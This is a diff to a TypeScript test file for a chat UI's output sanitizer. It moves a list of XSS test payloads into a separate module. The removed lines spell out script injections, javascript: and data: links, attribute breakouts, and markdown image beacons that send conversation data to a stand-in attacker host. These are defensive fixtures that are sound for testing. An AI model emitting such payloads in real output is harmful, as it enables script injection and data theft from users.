@@ -16,29 +16,10 @@ import {
   sanitizeOutput,
   type OutputPolicy,
 } from "../../functions/fulfillment/output-safety";
+import { ATTACKS } from "../lex-web-ui/attacks";
 import { liveMarkup } from "../lex-web-ui/live-markup";
 import { lexWebUiHtml } from "../lex-web-ui/render";
 
-/** Every payload class the issue names, as a document or a model would carry it. */
-export const ATTACKS = {
-  imgOnerror: `<img src="x" onerror="document.title='XSS-FIRED'">`,
-  script: "<script>document.title='XSS-FIRED'</script>",
-  iframe: `<iframe src="javascript:document.title='XSS-FIRED'"></iframe>`,
-  svgOnload: `<svg onload="document.title='XSS-FIRED'">`,
-  javascriptLink: "[click me](javascript:document.title='XSS-FIRED')",
-  javascriptLinkEntity: "[click me](javascript&#58;document.title='XSS-FIRED')",
-  dataLink: "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-  referenceLink: "[click][evil]\n\n[evil]: javascript:document.title='XSS-FIRED'",
-  imageBeacon: "![logo](https://beacon.attacker.example/p.png?conversation=secret)",
-  referenceImage: "![logo][b]\n\n[b]: https://beacon.attacker.example/r.png",
-  entities: "&lt;img src=x onerror=document.title='XSS-FIRED'&gt; &#60;script&#62;x&#60;/script&#62; &LTsvg onload=x&GT",
-  hrefBreakout: `[docs](https://example.com/"onmouseover="document.title='XSS-FIRED')`,
-  linkRunBreakout: `see https://example.com/"onmouseover="document.title='XSS-FIRED' and tel:1"onclick="x`,
-  autolink: "<javascript:document.title='XSS-FIRED'>",
-  comment: "<!-- x --><!DOCTYPE html><?xml x?>",
-  escapedBackslash: "\\\\<img src=x onerror=document.title='XSS-FIRED'>",
-  controlHidden: "<\u0000img src=x onerror=document.title='XSS-FIRED'>",
-} as const;
 
 /** Live markup in Lex Web UI's rendering; its own linkifier makes `tel:` links, which run nothing. */
 function render(text: string, policy: OutputPolicy = DEFAULT_OUTPUT_POLICY): string[] {
